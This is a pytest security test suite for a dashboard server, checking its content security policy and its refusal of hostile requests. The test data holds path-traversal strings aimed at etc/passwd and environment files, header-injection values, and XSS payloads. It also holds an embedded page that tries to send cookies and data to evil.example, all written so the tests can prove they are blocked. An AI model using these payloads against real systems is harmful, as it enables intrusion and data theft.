"""The security policy of served pages and the requests that a server rejects, with and without a browser."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from playwright.sync_api import expect

from explorer.guard import EMBED_IN, URL_CHARACTERS, URL_VALUES, headers
from explorer.inbound import MESSAGE_BYTES
from tests.browser import scroll_to_figure, wait_for
from tests.explore import graph_head, part, wait_ready
from tests.tiny_suite import write_tiny_suite
from tests.visitors import UPGRADE, ask, join_status, token_from, websocket

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.browser import PageOpener, Server

pytestmark = pytest.mark.security


# --- Headers ---------------------------------------------------------------------------------------------------------


def test_every_page_has_a_policy_and_its_own_nonce(either: Server) -> None:
    nonces = set()
    for path in ("/dashboard", "/dashboard?letter=s", "/dashboard?page=nonsense"):
        response = ask(either.url, path)
        page = response.body.decode()
        assert response.status == 200
        policy = dict(
            part.strip().partition(" ")[::2] for part in response.headers["Content-Security-Policy"].split(";")
        )
        (nonce,) = re.findall("'nonce-([^']+)'", policy["script-src"])
        assert policy["script-src"] == f"'nonce-{nonce}' 'strict-dynamic'"
        assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'"
        assert policy["frame-ancestors"] == "'self'"
        scripts = re.findall("<script[^>]*>", page)
        assert len(scripts) > 5
        assert all(f'nonce="{nonce}"' in script for script in scripts)
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert "camera=()" in response.headers["Permissions-Policy"]
        nonces.add(nonce)
    assert len(nonces) == 3


def test_every_response_has_security_headers(either: Server) -> None:
    answers = {
        path: ask(either.url, path)
        for path in ("/", "/dashboard/", "/dashboard/ws", "/dashboard/metadata", "/dashboard/autoload.js", "/nowhere")
    } | {
        "static": ask(either.url, "/static/js/bokeh.min.js"),
        "icon": ask(either.url, "/favicon.ico"),
        "component": ask(either.url, "/components/nowhere/x/y/z"),
        "method": ask(either.url, "/dashboard", "OPTIONS"),
        "unknown method": ask(either.url, "/dashboard", "BREW"),
    }
    for what, answer in answers.items():
        assert answer.headers["X-Content-Type-Options"] == "nosniff", what
        assert answer.headers["Referrer-Policy"] == "no-referrer", what
        assert "camera=()" in answer.headers["Permissions-Policy"], what
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"], what
        if what != "/dashboard/":
            assert "script-src 'none'" in answer.headers["Content-Security-Policy"], what
        assert not [name for name in answer.headers if name.startswith("Access-Control")], what
    assert answers["/dashboard/metadata"].status == answers["/dashboard/autoload.js"].status == 404
    assert answers["/dashboard/"].headers["Cache-Control"] == "no-store"


def test_configured_sites_may_embed_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(EMBED_IN, "https://course.example https://*.lab.example")
    policy = headers("n")["Content-Security-Policy"]
    assert policy.endswith("frame-ancestors 'self' https://course.example https://*.lab.example")


# --- Requests --------------------------------------------------------------------------------------------------------

_OUTSIDE = ("etc/passwd", "proc/self/environ", "dashboard.py", "pyproject.toml")
_ABOVE = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e/", "....//", "..;/", "/", "%2f", "file:///")


@pytest.mark.parametrize(
    "place", ["/", "/static/", "/static/js/", "/static/extensions/panel/", "/dashboard/static/", "/components/panel/"]
)
def test_paths_cannot_reach_other_files(either: Server, place: str) -> None:
    for above in _ABOVE:
        for file in _OUTSIDE:
            for times in (1, 3, 12):
                response = ask(either.url, f"{place}{above * times}{file}")
                assert response.status in (301, 302, 400, 403, 404), (place, above, file)
                assert b"root:" not in response.body
                assert b"[project]" not in response.body
                assert b"PATH=" not in response.body


def test_paths_cannot_import_modules(either: Server) -> None:
    before = len(either.output)
    for path in ("this/s/css", "antigravity/fly/css/x", "explorer.app/Explorer/css/x", "os/environ/_resources/x/y"):
        assert ask(either.url, f"/components/{path}").status in (400, 403, 404)
    assert "Zen of Python" not in either.output[before:]


def test_oversized_requests_are_refused_with_a_reason(either: Server) -> None:
    before = len(either.output)
    long = ask(either.url, f"/dashboard?evidence_token={'x' * URL_CHARACTERS}")
    assert (long.status, long.reason) == (414, f"Address longer than {URL_CHARACTERS} characters")
    many = ask(either.url, "/dashboard?" + "&".join(f"k{number}=1" for number in range(URL_VALUES + 1)))
    assert (many.status, many.reason) == (400, f"Address with more than {URL_VALUES} values")
    same = ask(either.url, "/dashboard?" + "&".join(["letter=s"] * (URL_VALUES + 1)))
    assert same.status == 400
    for path in ("/dashboard/autoload.js", "/dashboard/ws", "/dashboard/metadata"):
        assert ask(either.url, f"{path}?{'x' * URL_CHARACTERS}=1").status == 414
    for method in ("POST", "PUT", "DELETE", "PATCH", "TRACE"):
        assert ask(either.url, "/dashboard", method, Content_Length="0").status == 405
    assert "Traceback" not in either.output[before:]


def test_malformed_requests_are_refused_without_a_traceback(either: Server) -> None:
    before = len(either.output)
    answers = [
        *(ask(either.url, "/dashboard", method) for method in ("OPTIONS", "HEAD", "BREW", "get", "CONNECT")),
        *(ask(either.url, f"/dashboard{path}", "OPTIONS") for path in ("/autoload.js", "/ws", "/metadata")),
        *(
            ask(either.url, path)
            for path in ("/static/js/%00", "/static/%0d%0aSet-Cookie:a", "/dashboard%00", "/%ff%fe")
        ),
        *(
            ask(either.url, f"/dashboard?{query}")
            for query in ("theme=%ff", "letter=%ff", "%ff=%ff", "theme=%ed%a0%80")
        ),
        *(ask(either.url, f"/components/{path}") for path in ("%00/a/b/c", "panel/%ff/css/x", "panel//css/x")),
        ask(either.url, "/dashboard/ws", "POST", Content_Length="0"),
        ask(either.url, "/dashboard/ws", **UPGRADE),
        ask(either.url, "/dashboard/ws", **UPGRADE, Sec_WebSocket_Protocol="bokeh"),
    ]
    for answer in answers:
        assert 400 <= answer.status < 500, answer
        assert b"Traceback" not in answer.body
        assert b"/site-packages" not in answer.body
    # Headers that no browser sends are ignored.
    for sent in (
        {"Cookie": 'ax_dark="\\777; =; ax_open=%ff%00; \xff=1'},
        {"If_None_Match": '"', "If_Modified_Since": "Fri, 99 Foo 99999 99:99:99 GMT"},
        {"Accept_Encoding": "\xff;q=x", "Range": "bytes=9-1,-0,a-b", "X_Forwarded_For": "%00,,"},
    ):
        for path in ("/dashboard", "/static/js/bokeh.min.js"):
            assert ask(either.url, path, **sent).status in (200, 304, 400, 416), sent
    assert "Traceback" not in either.output[before:]
    assert "Uncaught" not in either.output[before:]


def test_request_bodies_are_not_read(own_command: Server) -> None:
    response = ask(own_command.url, "/dashboard", "POST", Content_Length=str(10 * MESSAGE_BYTES))
    assert response.status in (400, 413)


# --- Websockets ------------------------------------------------------------------------------------------------------


def test_websockets_of_other_sites_are_refused(either: Server) -> None:
    own, token = urlsplit(either.url), token_from(either.url)
    for origin in (
        "https://evil.example",
        "null",
        f"http://evil.example:{own.port}",
        "http://localhost.evil.example",
        "",
    ):
        assert join_status(either.url, token, Origin=origin) == 403, origin
    assert join_status(either.url, token, Origin=either.url) == 101


def test_command_accepts_localhost_by_name_and_address(own_command: Server) -> None:
    token = token_from(own_command.url)
    assert join_status(own_command.url, token, Origin=own_command.url.replace("localhost", "127.0.0.1")) == 101


def test_oversized_message_closes_its_connection(either: Server) -> None:
    before = len(either.output)
    with websocket(either.url, token_from(either.url)) as (_, sock):
        # The header of a text frame, which contains the length of the text.
        sock.sendall(b"\x81\xff" + (MESSAGE_BYTES + 1).to_bytes(8, "big") + b"mask")
        while sock.recv(4096):
            pass
    assert "Traceback" not in either.output[before:]


# --- In the browser --------------------------------------------------------------------------------------------------

_VIOLATIONS = """
window.violations = []
document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) =>
  window.violations.push(`${violatedDirective} ${blockedURI}`))
"""


@pytest.mark.browser
def test_pages_do_not_violate_their_own_policy(open_page: PageOpener, server: Server) -> None:
    page, broken = open_page("/dashboard?page=evidence"), {}
    page.context.add_init_script(_VIOLATIONS)
    pages = ("page=compare", "page=compare&compare_by=pair", "page=atlas", "page=evidence", "letter=s&latent=47")
    for query in pages:
        page.goto(f"{server.url}/dashboard?{query}")
        wait_ready(page)
        if "latent" in query:
            scroll_to_figure(graph_head(page), "split-absorb-graph")
            page.get_by_label("Export the graph").click()
            with page.expect_download():
                part(page, "export").get_by_role("button", name="PNG").first.click()
        broken[query] = page.evaluate("window.violations")
    assert {query: what for query, what in broken.items() if what} == {}


@pytest.mark.browser
def test_injected_scripts_do_not_run(open_page: PageOpener) -> None:
    page = open_page(allow=["Content Security Policy"])
    wait_ready(page)
    page.evaluate("""() => {
      const box = document.querySelector(".ax-main").appendChild(document.createElement("div"))
      box.innerHTML = `<img src="data:," onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
        <a id="press" href="javascript:window.ran = 1">press</a>
        <iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
        <iframe src="data:text/html,<script>1</script>"></iframe><form action="https://evil.example"></form>`
      document.getElementById("press").click()
      // As a page would parse it, not as a script adds it, which a trusted script may.
      const frame = document.body.appendChild(document.createElement("iframe"))
      frame.contentDocument.write("<script>parent.ran = 1</script>")
      frame.contentDocument.close()
    }""")
    wait_for(page, "() => new Promise((done) => setTimeout(() => done(true), 100))")
    assert page.evaluate("window.ran") is None


#: What an imported page tries; it writes the outcomes into its body.
_TRIES = """<!DOCTYPE html><body><p id="outcomes"></p><script>
const tries = {
  parent: () => parent.document.title,
  top: () => { top.location = "https://evil.example/" },
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  opened: () => { if (open("https://evil.example/")) return "opened"; throw new Error("no window") },
  evaluated: () => eval("1"),
  fetched: () => fetch("/dashboard"),
  sent: () => fetch("https://evil.example/", {method: "POST", body: "x", mode: "no-cors"}),
  beacon: () => { navigator.sendBeacon("https://evil.example/", "x"); throw new Error("it does not say") },
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket("ws://evil.example/")
    socket.onopen = done
    socket.onerror = () => failed(new Error("shut"))
  }),
  image: () => new Promise((done, failed) => {
    const image = new Image()
    image.onload = done
    image.onerror = () => failed(new Error("none"))
    image.src = "https://evil.example/x.png"
  }),
  frame: () => new Promise((done, failed) => {
    const frame = document.createElement("iframe")
    frame.src = "https://evil.example/"
    document.addEventListener("securitypolicyviolation", ({violatedDirective}) => {
      if (violatedDirective === "frame-src") failed(new Error("no frame"))
    })
    document.body.append(frame)
  }),
};
(async () => {
  const outcomes = {}
  for (const [name, attempt] of Object.entries(tries)) {
    try { outcomes[name] = `did: ${await attempt()}` } catch (error) { outcomes[name] = "refused" }
  }
  document.getElementById("outcomes").textContent = JSON.stringify(outcomes)
  document.body.onclick = () => { location = "https://evil.example/?outcomes" }
})()
</script></body>"""


@pytest.mark.browser
def test_imported_page_draws_and_cannot_reach_the_network_or_the_page(
    open_page: PageOpener, serve: Callable[..., Server], tmp_path: Path
) -> None:
    suite = write_tiny_suite(tmp_path / "tiny", saes=[(3, 4000, 40)], dashboards=True)
    file = suite / "dashboards.parquet"
    table = pq.read_table(file)
    pq.write_table(table.set_column(table.column_names.index("html"), "html", pa.array([_TRIES] * len(table))), file)
    latent = table.column("latent")[0].as_py()
    allow = ["Content Security Policy", "sandboxed", "Blocked", "evil.example", "allow-popups"]
    page = open_page(f"{serve(suite).url}/dashboard?letter=s&latent={latent}", allow=allow)
    wait_ready(page)
    page.evaluate("document.addEventListener('securitypolicyviolation', () => { document.violated = true })")
    page.context.add_cookies([{"name": "secret", "value": "1", "url": page.url}])
    page.get_by_role("button", name="Show the original page").click()
    frame = part(page, "original").frame_locator("iframe")
    expect(frame.locator("#outcomes")).not_to_be_empty()
    outcomes = json.loads(frame.locator("#outcomes").inner_text())
    assert outcomes == dict.fromkeys(outcomes, "refused")
    assert len(outcomes) > 10
    frame.locator("#outcomes").click()
    wait_for(page, "() => document.violated")
    assert urlsplit(page.url).hostname == "localhost"
    assert [url for url in open_page.external if "evil.example" in url] == []
